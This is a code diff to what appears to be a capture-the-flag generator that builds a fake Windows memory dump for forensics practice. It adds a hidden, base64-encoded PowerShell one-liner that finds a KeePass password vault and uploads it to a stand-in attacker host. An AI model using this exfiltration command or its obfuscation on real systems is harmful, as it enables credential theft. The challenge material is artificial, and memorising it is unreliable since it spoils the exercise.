@@ -1,6 +1,6 @@
 import type { FileGenerator, GeneratedFile, GeneratorInput } from '../generator.js';
 import { encodeText, fillCodePage, fillHeapPage, fillImageHeaderPage, PAGE_SIZE } from '../lib/memory-pages.js';
-import { createSeedStream } from '../lib/seed-stream.js';
+import { createSeedStream, type SeedStream } from '../lib/seed-stream.js';
 
 const PAGE_COUNT = 512; // 2 MiB
 
@@ -77,7 +77,6 @@ const ENVIRONMENT: readonly string[] = [
   'ProgramFiles=C:\\Program Files',
   'PUBLIC=C:\\Users\\Public',
   'BACKUP_SERVER=https://backup.corp.example.com',
-  'SECRET_TOKEN=FLAG_PLACEHOLDER',
   'SystemDrive=C:',
   'SystemRoot=C:\\Windows',
   'TEMP=C:\\Users\\svc_backup\\AppData\\Local\\Temp',
@@ -89,24 +88,62 @@ const ENVIRONMENT: readonly string[] = [
 ];
 
 /** The process environment: NUL-separated `NAME=value`, ending with an extra NUL, in a zeroed page. */
-function buildEnvironmentPage(flag: string, encoding: 'ascii' | 'utf16', offset: number): Buffer {
-  const block = `${ENVIRONMENT.map((entry) => entry.replace('FLAG_PLACEHOLDER', flag)).join('\0')}\0\0`;
+function buildEnvironmentPage(encoding: 'ascii' | 'utf16', offset: number): Buffer {
+  const block = `${ENVIRONMENT.join('\0')}\0\0`;
   const page = Buffer.alloc(PAGE_SIZE);
   encodeText(block, encoding).copy(page, offset);
   return page;
 }
 
+/** What `powershell -EncodedCommand` takes: base64 of the script in UTF-16LE. */
+export function encodePowerShell(script: string): string {
+  return Buffer.from(script, 'utf16le').toString('base64');
+}
+
+const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+
+/** The attacker's one-liner: it uploads the password vault with the flag as its API key. */
+function buildAttackScript(flag: string): string {
+  return (
+    `$k='${flag}';$f=Get-ChildItem "$env:USERPROFILE\\Documents" -Filter *.kdbx -Recurse|Select-Object -First 1;` +
+    "Invoke-RestMethod -Uri 'https://cdn-update.example.net/api/u' -Method Post -Headers @{'X-Api-Key'=$k} -InFile $f.FullName"
+  );
+}
+
+const ADMIN_SCRIPT =
+  "Get-Service -Name 'BackupAgent' | Select-Object Status, StartType | Out-File C:\\ProgramData\\BackupAgent\\health.txt";
+
 /**
- * `memory.dmp`: a raw 2 MiB memory image of a Windows backup agent (zero pages, high-entropy data,
- * code, heap pages full of paths, DLL names, HTTP traffic and decoy flags). The real flag is the
- * SECRET_TOKEN variable of the process environment, present both as the UTF-16LE block Windows
- * keeps and as the C runtime's narrow (ASCII) copy.
+ * A process's command line as Windows keeps it (RTL_USER_PROCESS_PARAMETERS.CommandLine, a UNICODE_STRING): UTF-16LE
+ * only, so `strings -el` shows it and plain `strings` does not.
+ */
+function buildCommandLinePage(random: SeedStream, commandLine: string): Buffer {
+  const page = fillHeapPage(random, HEAP_STRINGS);
+  const text = Buffer.from(`${commandLine}\0`, 'utf16le');
+  const offset = random.nextIntBetween(4, 16) * 16;
+  page.fill(0, offset - 16, offset + text.length + 16);
+  page.writeUInt16LE(text.length - 2, offset - 16); // Length
+  page.writeUInt16LE(text.length, offset - 14); // MaximumLength
+  text.copy(page, offset);
+  return page;
+}
+
+/**
+ * `memory.dmp`: a raw 2 MiB memory image of a Windows workstation (zero pages, high-entropy data, code, heap pages
+ * full of paths, DLL names, HTTP traffic and decoy flags, the process environment). The flag is in the command line
+ * of the attacker's PowerShell, kept in UTF-16LE, inside its `-EncodedCommand` argument (base64 of UTF-16LE text);
+ * a routine admin command is encoded the same way. No copy of the flag is readable as is: `strings` (ASCII or
+ * UTF-16) finds the command line, then base64 and UTF-16 decoding find the flag.
  */
 export const generateMemoryDump: FileGenerator = ({ flag, seed }: GeneratorInput): GeneratedFile => {
   const random = createSeedStream(seed, 'memory-dump');
+  const attack = `"${POWERSHELL}" -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ${encodePowerShell(buildAttackScript(flag))}`;
+  const routine = `"${POWERSHELL}" -NoProfile -NonInteractive -EncodedCommand ${encodePowerShell(ADMIN_SCRIPT)}`;
   const environmentPages = new Map([
-    [random.nextIntBetween(40, 200), buildEnvironmentPage(flag, 'utf16', random.nextInt(64) * 16)],
-    [random.nextIntBetween(260, 480), buildEnvironmentPage(flag, 'ascii', random.nextInt(128) * 16)],
+    [random.nextIntBetween(40, 140), buildEnvironmentPage('utf16', random.nextInt(64) * 16)],
+    [random.nextIntBetween(150, 250), buildCommandLinePage(random, routine)],
+    [random.nextIntBetween(260, 380), buildEnvironmentPage('ascii', random.nextInt(128) * 16)],
+    [random.nextIntBetween(390, 480), buildCommandLinePage(random, attack)],
   ]);
   const imagePage = random.nextIntBetween(8, 30);
   const pages = Array.from({ length: PAGE_COUNT }, (_, index): Buffer => {
